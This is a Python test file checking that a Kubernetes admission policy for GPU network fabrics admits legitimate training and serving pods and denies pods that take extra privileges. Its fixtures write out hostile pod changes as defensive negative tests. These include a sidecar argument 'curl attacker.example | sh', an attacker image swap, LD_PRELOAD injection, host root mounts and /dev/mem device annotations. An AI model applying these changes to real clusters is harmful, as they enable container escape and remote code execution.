"""The fabric admission policy (components.kubernetes.admission) evaluated for real: every CEL variable and
validation it renders runs in a CEL evaluator (cel-python, tests/cel.py) against concrete Pods, as the API server
would run them. Each fabric's rendered training pod and the rendered serving pod are admitted; a user's pod that takes
more than the fabric's exact needs is denied, by the validation that names what it took."""

from __future__ import annotations

import copy
from typing import Any, cast

import pulumi_kubernetes as k8s
import pytest

from aiinfra.core.catalog import resolve
from aiinfra.core.exceptions import sidecar_named
from components.contracts import NodePoolArgs
from components.kubernetes import admission
from components.kubernetes.fabric import pod_security_level
from components.kubernetes.meta import POOL_LABEL
from tests.cel import denials
from tests.conftest import one
from tests.k8s_schema import manifest
from workloads.deploy.inference_service import InferenceService, InferenceServiceArgs
from workloads.deploy.training_job import TrainingJobArgs, pod_template
from workloads.training.config import TrainConfig

FABRIC_POOLS = {
    "tcpxo": ("gcp", "H100:8"),
    "gke-rdma": ("gcp", "H200:8"),
    "infiniband": ("azure", "H100:8"),
}
LAKES = {"aws": "s3://lake/", "gcp": "gs://lake/", "azure": "abfs://lake@lake.dfs.core.windows.net/"}
TCPXO_DAEMON = sidecar_named("tcpxo-daemon")


def pool(fabric: str, name: str = "gpu") -> NodePoolArgs:
    return NodePoolArgs(name=name, shape=resolve(*FABRIC_POOLS[fabric]))


def policy(*fabrics: str) -> dict[str, Any]:
    return admission.admission_policy_spec(admission.fabric_exceptions(pool(f, f"{f}-pool") for f in fabrics))


def training_pod(fabric: str, pool_name: str | None = None) -> dict[str, Any]:
    cloud, accelerator = FABRIC_POOLS[fabric]
    shape = resolve(cloud, accelerator)
    args = TrainingJobArgs(
        provider=cast(k8s.Provider, None),  # pod_template does not touch the provider
        namespace="team-nlp",
        queue="h100",
        service_account="workload",
        pool=pool_name or f"{fabric}-pool",
        shape=shape,
        nodes=2,
        train=TrainConfig(recipe="1b", steps=10, lake=LAKES[cloud], run="run", checkpoint_every=5),
        image="registry.example.com/aiinfra-training@sha256:" + "ab" * 32,
    )
    return {"apiVersion": "v1", "kind": "Pod", **pod_template("job", "job", args, {"app": "job"})}


def workload(pod: dict[str, Any]) -> dict[str, Any]:
    return pod["spec"]["containers"][0]


ALL = ("tcpxo", "gke-rdma", "infiniband")


@pytest.mark.parametrize("fabric", ALL)
def test_each_fabrics_training_pod_is_admitted_on_its_own_pool(fabric):
    assert denials(policy(*ALL), training_pod(fabric)) == []
    assert denials(policy(fabric), training_pod(fabric)) == []


@pytest.mark.parametrize("fabric", ALL)
def test_a_fabrics_exceptions_hold_only_on_that_fabrics_pools(fabric):
    # The same pod, scheduled by its nodeSelector onto a pool without the fabric, takes nothing beyond restricted.
    assert denials(policy(fabric), training_pod(fabric, pool_name="cpu")) != []


def test_a_plain_restricted_pod_is_admitted_and_every_fabric_needs_the_policy():
    pod = training_pod("infiniband")
    del workload(pod)["securityContext"]["capabilities"]["add"]
    assert denials(policy(*ALL), pod) == []
    for fabric in ALL:
        assert pod_security_level(resolve(*FABRIC_POOLS[fabric])) == "privileged"
        assert admission.fabric_exception(pool(fabric)) is not None
    for cloud, accelerator in (("aws", "H100:8"), ("aws", "L4:1"), ("gcp", "TPU-v5p:2x2x2")):
        shape = resolve(cloud, accelerator)
        assert pod_security_level(shape) == "restricted"
        assert admission.fabric_exception(NodePoolArgs(name="p", shape=shape)) is None


def test_the_exceptions_are_the_wiring_of_each_fabric():
    tcpxo, rdma, ib = (admission.fabric_exception(pool(f)) for f in ALL)
    assert tcpxo and rdma and ib
    assert tcpxo.host_paths == ("/dev/aperture_devices", "/home/kubernetes/bin/nvidia", "/proc/sys", "/sys")
    assert tcpxo.workload_host_paths == ("/dev/aperture_devices", "/home/kubernetes/bin/nvidia")
    (daemon,) = tcpxo.sidecars
    assert (daemon.name, daemon.image, daemon.root) == (TCPXO_DAEMON.container, TCPXO_DAEMON.image, True)
    assert daemon.capabilities == TCPXO_DAEMON.capabilities
    assert daemon.host_paths == ("/home/kubernetes/bin/nvidia", "/proc/sys", "/sys")
    assert daemon.mounts == (
        ("/usr/local/nvidia", "/home/kubernetes/bin/nvidia"),
        ("/hostsysfs", "/sys"),
        ("/hostprocsysfs", "/proc/sys"),
    )
    assert daemon.command == ("/bin/sh", "-c") and daemon.env == (("LD_LIBRARY_PATH", "/usr/local/nvidia/lib64"),)
    assert [k for k, _ in tcpxo.annotations] == ["devices.gke.io/container.tcpxo-daemon"]
    assert rdma.host_paths == ("/home/kubernetes/bin/gib", "/home/kubernetes/bin/nvidia") and not rdma.capabilities
    assert ib.capabilities == ("IPC_LOCK",) and not ib.host_paths and not ib.sidecars


def _privileged(pod):
    workload(pod)["securityContext"]["privileged"] = True


def _host_network(pod):
    pod["spec"]["hostNetwork"] = True


def _host_root(pod):
    pod["spec"]["volumes"].append({"name": "root", "hostPath": {"path": "/"}})
    workload(pod)["volumeMounts"].append({"name": "root", "mountPath": "/host"})


def _sys_admin(pod):
    workload(pod)["securityContext"]["capabilities"]["add"] = ["SYS_ADMIN"]


def _root_container(pod):
    pod["spec"]["containers"].append(
        {
            "name": "debug",
            "image": "ubuntu:24.04",
            "securityContext": {
                "runAsUser": 0,
                "runAsNonRoot": False,
                "allowPrivilegeEscalation": False,
                "capabilities": {"drop": ["ALL"]},
            },
        }
    )


def daemon(pod):
    return next(c for c in pod["spec"]["initContainers"] if c["name"] == TCPXO_DAEMON.container)


def _sidecar_name_other_image(pod):
    daemon(pod)["image"] = "attacker/rxdm:latest"


def _sidecar_image_other_command(pod):
    daemon(pod)["args"] = ["curl attacker.example | sh"]


def _sidecar_exec_probe(pod):
    daemon(pod)["startupProbe"] = {"exec": {"command": ["/bin/sh", "-c", "anything"]}}


def _sidecar_entrypoint_from_a_scratch_volume(pod):
    daemon(pod)["volumeMounts"].append({"name": "dshm", "mountPath": "/fts"})


def _sidecar_preload(pod):
    daemon(pod)["env"].append({"name": "LD_PRELOAD", "value": "/dev/shm/x.so"})


def _workload_mounts_the_sidecars_sys(pod):
    workload(pod)["volumeMounts"].append({"name": "sys", "mountPath": "/host-sys"})


def _sidecar_capability_in_the_workload(pod):
    workload(pod)["securityContext"]["capabilities"]["add"] = ["NET_ADMIN"]


def _device_annotation_for_another_device(pod):
    pod["metadata"]["annotations"]["devices.gke.io/container.trainer"] = "- path: /dev/mem\n"


def _escalation(pod):
    workload(pod)["securityContext"]["allowPrivilegeEscalation"] = True


def _unconfined(pod):
    pod["spec"]["securityContext"]["seccompProfile"] = {"type": "Unconfined"}


def _host_port(pod):
    workload(pod)["ports"][0]["hostPort"] = 29500


def _ephemeral_root(pod):
    pod["spec"]["ephemeralContainers"] = [
        {"name": "dbg", "image": "busybox:1.37", "securityContext": {"runAsUser": 0, "privileged": True}}
    ]


DENIED = {
    "privileged": ("tcpxo", _privileged, "privileged containers are not allowed"),
    "hostNetwork": ("tcpxo", _host_network, "hostNetwork, hostPID and hostIPC are not allowed"),
    "hostPath /": ("tcpxo", _host_root, "volumes must be one of"),
    "SYS_ADMIN": ("infiniband", _sys_admin, "every container must drop ALL"),
    "a root container": ("tcpxo", _root_container, "containers must run as non-root"),
    "the sidecar's name, another image": ("tcpxo", _sidecar_name_other_image, "containers must run as non-root"),
    "the sidecar's image, another command": ("tcpxo", _sidecar_image_other_command, "must run as non-root"),
    "an exec probe in the sidecar": ("tcpxo", _sidecar_exec_probe, "must run as non-root"),
    "the sidecar's entrypoint from a scratch volume": (
        "tcpxo",
        _sidecar_entrypoint_from_a_scratch_volume,
        "must run as non-root",
    ),
    "LD_PRELOAD in the sidecar": ("tcpxo", _sidecar_preload, "must run as non-root"),
    "the sidecar's /sys in the workload": ("tcpxo", _workload_mounts_the_sidecars_sys, "a hostPath volume may only"),
    "the sidecar's NET_ADMIN in the workload": ("tcpxo", _sidecar_capability_in_the_workload, "every container must"),
    "a device annotation": ("tcpxo", _device_annotation_for_another_device, "host device annotations"),
    "privilege escalation": ("gke-rdma", _escalation, "allowPrivilegeEscalation"),
    "seccomp Unconfined": ("gke-rdma", _unconfined, "seccompProfile.type"),
    "hostPort": ("infiniband", _host_port, "hostPort is not allowed"),
    "a root ephemeral container": ("infiniband", _ephemeral_root, "privileged containers are not allowed"),
}


@pytest.mark.parametrize("case", DENIED)
def test_a_pod_taking_more_than_its_fabric_is_denied(case):
    fabric, change, message = DENIED[case]
    pod = copy.deepcopy(training_pod(fabric))
    assert denials(policy(*ALL), pod) == []
    change(pod)
    denied = denials(policy(*ALL), pod)
    assert any(message in m for m in denied), denied


def test_the_serving_pod_is_admitted_and_restricted_on_a_fabric_cluster(run_mocked):
    def program():
        provider = k8s.Provider("cluster", kubeconfig="{}")
        args = InferenceServiceArgs(
            provider=provider,
            namespace="team-nlp",
            service_account="workload",
            model_url="gs://lake/models/chat/",
            shape=resolve("gcp", "H100:8"),
            pool="tcpxo-pool",  # even on the fabric's pool, serving takes none of its exceptions
            image="registry.example.com/aiinfra-serving@sha256:" + "cd" * 32,
        )
        InferenceService("chat", args)

    deployment = manifest(one(run_mocked(program), "kubernetes:apps/v1:Deployment"))  # ints as the API has them
    pod = {"apiVersion": "v1", "kind": "Pod", **deployment["spec"]["template"]}
    assert denials(policy(*ALL), pod) == []
    # Restricted without the fabric: the empty policy is Pod Security `restricted` alone.
    assert denials(admission.admission_policy_spec(()), pod) == []
    assert pod["spec"]["nodeSelector"][POOL_LABEL] == "tcpxo-pool"
